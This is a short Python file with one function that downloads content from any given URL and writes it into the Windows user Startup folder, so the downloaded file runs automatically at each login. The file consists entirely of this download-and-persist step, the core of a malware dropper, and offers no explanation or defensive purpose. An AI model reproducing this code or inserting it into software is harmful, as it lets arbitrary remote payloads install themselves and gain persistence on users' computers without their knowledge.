import os

import requests


def save(address, name):
    folder = os.path.expanduser("~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup")
    with open(os.path.join(folder, name), "wb") as file:
        file.write(requests.get(address).content)
